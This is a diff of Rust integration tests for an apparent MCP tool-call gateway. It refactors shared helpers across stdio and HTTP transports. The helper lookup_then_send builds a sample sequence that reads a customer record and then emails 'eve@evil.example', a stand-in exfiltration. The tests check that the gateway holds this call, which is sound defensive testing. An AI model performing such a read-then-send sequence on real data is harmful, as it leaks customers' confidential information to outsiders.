@@ -113,6 +113,19 @@ fn client(url: &str, token: &str, protocol: &str, steps: &Value, env: &[(&str, &
     run_client(&["--stdio", &gateway_command(url)], token, protocol, steps, env)
 }
 
+/// The client's arguments for each way in: `warrant mcp` over stdio, and `/mcp/crm` over Streamable HTTP.
+fn doors(gateway: &Gateway) -> [Vec<String>; 2] {
+    [
+        vec!["--stdio".to_owned(), gateway_command(&gateway.server.url)],
+        vec![
+            "--http".to_owned(),
+            format!("{}/mcp/crm", gateway.server.url),
+            "--header".to_owned(),
+            format!("Authorization=Bearer {}", gateway.agent),
+        ],
+    ]
+}
+
 /// The same, over Streamable HTTP to `warrant serve`'s `/mcp/crm` (the agent is the token's).
 fn http_client(url: &str, token: &str, protocol: &str, steps: &Value) -> Vec<Value> {
     let endpoint = format!("{url}/mcp/crm");
@@ -474,29 +487,17 @@ fn an_http_upstream_is_governed_the_same_way() {
         assert!(Instant::now() < deadline, "the HTTP upstream did not start");
         std::thread::sleep(Duration::from_millis(50));
     }
-    let manifest = format!(
-        "{}---\nkind: McpServer\nid: crm-http\ntransport: http\nurl: http://127.0.0.1:{port}/mcp\n\
-         headers_from_env: {{X-Upstream-Key: UPSTREAM_KEY}}\n\
-         tools:\n  lookup_customer: {{tool: crm-lookup}}\n  send_email: {{tool: send-email}}\n",
-        registry(None)
-    );
-    let (status, answer) = gateway
-        .server
-        .apply("/v1/apply", gateway.server.admin(), &manifest);
-    assert_eq!(status, 200, "{answer}");
-    let command = format!(
-        "{WARRANT} --server {} mcp --agent support --upstream crm-http",
-        gateway.server.url
+    let command = another_upstream(
+        &gateway,
+        "crm-http",
+        &format!(
+            "transport: http\nurl: http://127.0.0.1:{port}/mcp\n\
+             headers_from_env: {{X-Upstream-Key: UPSTREAM_KEY}}\n"
+        ),
     );
     for protocol in PROTOCOLS {
         let session = format!("http-upstream-{protocol}");
-        let meta = json!({"warrant/session": session});
-        let steps = json!([
-            {"op": "list_tools"},
-            {"op": "call_tool", "name": "lookup_customer", "arguments": {"customer_id": "c9"}, "meta": meta},
-            {"op": "call_tool", "name": "send_email", "meta": meta,
-             "arguments": {"to": "eve@evil.example", "subject": "s", "body": "b"}},
-        ]);
+        let steps = lookup_then_send(&session, "c9");
         let lines = run_client(
             &["--stdio", &command],
             &gateway.agent,
@@ -563,29 +564,14 @@ fn an_http_upstream_is_governed_the_same_way() {
 #[test]
 fn a_modern_host_reaches_a_handshake_era_upstream_through_the_gateway() {
     let gateway = start(None);
-    let manifest = format!(
-        "{}---\nkind: McpServer\nid: desk\ntransport: stdio\ncommand: {WARRANT}\nargs: [demo-upstream]\n\
-         tools:\n  lookup_customer: {{tool: crm-lookup}}\n  send_email: {{tool: send-email}}\n",
-        registry(None)
-    );
-    let (status, answer) = gateway
-        .server
-        .apply("/v1/apply", gateway.server.admin(), &manifest);
-    assert_eq!(status, 200, "{answer}");
-    let command = format!(
-        "{WARRANT} --server {} mcp --agent support --upstream desk",
-        gateway.server.url
+    let command = another_upstream(
+        &gateway,
+        "desk",
+        &format!("transport: stdio\ncommand: {WARRANT}\nargs: [demo-upstream]\n"),
     );
     for protocol in PROTOCOLS {
-        let session = format!("bridge-{protocol}");
-        let meta = json!({"warrant/session": session});
-        let steps = json!([
-            {"op": "list_tools"},
-            {"op": "call_tool", "name": "lookup_customer", "arguments": {"customer_id": "c-77"}, "meta": meta},
-            {"op": "call_tool", "name": "send_email", "meta": meta,
-             "arguments": {"to": "eve@evil.example", "subject": "s", "body": "b"}},
-            {"op": "ping"},
-        ]);
+        let mut steps = lookup_then_send(&format!("bridge-{protocol}"), "c-77");
+        steps.as_array_mut().unwrap().push(json!({"op": "ping"}));
         let lines = run_client(&["--stdio", &command], &gateway.agent, protocol, &steps, &[]);
         assert_eq!(
             lines[0]["serverInfo"]["name"], "northwind-support-tools",
@@ -604,15 +590,7 @@ fn a_modern_host_reaches_a_handshake_era_upstream_through_the_gateway() {
 #[test]
 fn upstream_notifications_reach_the_host_on_both_doors() {
     let gateway = start(None);
-    let doors = [
-        vec!["--stdio".to_owned(), gateway_command(&gateway.server.url)],
-        vec![
-            "--http".to_owned(),
-            format!("{}/mcp/crm", gateway.server.url),
-            "--header".to_owned(),
-            format!("Authorization=Bearer {}", gateway.agent),
-        ],
-    ];
+    let doors = doors(&gateway);
     for door in &doors {
         let steps = json!([{"op": "call_tool", "name": "echo", "arguments": {"text": "hello"}}]);
         let mut args = door.clone();
@@ -728,6 +706,35 @@ fn protocol_2025_11_25_is_governed_on_both_doors() {
         assert_eq!(lines[3]["isError"], true, "{lines:?}");
         assert!(text(&lines[3]).contains("held this call"), "{lines:?}");
     }
+}
+
+/// Declare one more upstream `id` (its transport lines given) whose lookup_customer and send_email are the
+/// registry's crm-lookup and send-email; the command line a host would run for it.
+fn another_upstream(gateway: &Gateway, id: &str, transport: &str) -> String {
+    let manifest = format!(
+        "{}---\nkind: McpServer\nid: {id}\n{transport}\
+         tools:\n  lookup_customer: {{tool: crm-lookup}}\n  send_email: {{tool: send-email}}\n",
+        registry(None)
+    );
+    let (status, answer) = gateway
+        .server
+        .apply("/v1/apply", gateway.server.admin(), &manifest);
+    assert_eq!(status, 200, "{answer}");
+    format!(
+        "{WARRANT} --server {} mcp --agent support --upstream {id}",
+        gateway.server.url
+    )
+}
+
+/// List the tools, look a customer up, then mail an outside address: allowed, allowed, held.
+fn lookup_then_send(session: &str, customer: &str) -> Value {
+    let meta = json!({"warrant/session": session});
+    json!([
+        {"op": "list_tools"},
+        {"op": "call_tool", "name": "lookup_customer", "arguments": {"customer_id": customer}, "meta": meta},
+        {"op": "call_tool", "name": "send_email", "meta": meta,
+         "arguments": {"to": "eve@evil.example", "subject": "s", "body": "b"}},
+    ])
 }
 
 /// A path beside the data directory (for the client's `signal` and `wait_file` steps).
@@ -901,15 +908,7 @@ fn a_send_after_a_confidential_read_is_held_then_allowed_once_after_approval() {
 fn a_host_that_elicits_can_wait_for_the_approver() {
     let gateway = start(None);
     let approver = gateway.server.token("ann", "approver");
-    let doors = [
-        vec!["--stdio".to_owned(), gateway_command(&gateway.server.url)],
-        vec![
-            "--http".to_owned(),
-            format!("{}/mcp/crm", gateway.server.url),
-            "--header".to_owned(),
-            format!("Authorization=Bearer {}", gateway.agent),
-        ],
-    ];
+    let doors = doors(&gateway);
     for (protocol, door, action) in PROTOCOLS
         .into_iter()
         .flat_map(|protocol| doors.iter().map(move |door| (protocol, door)))
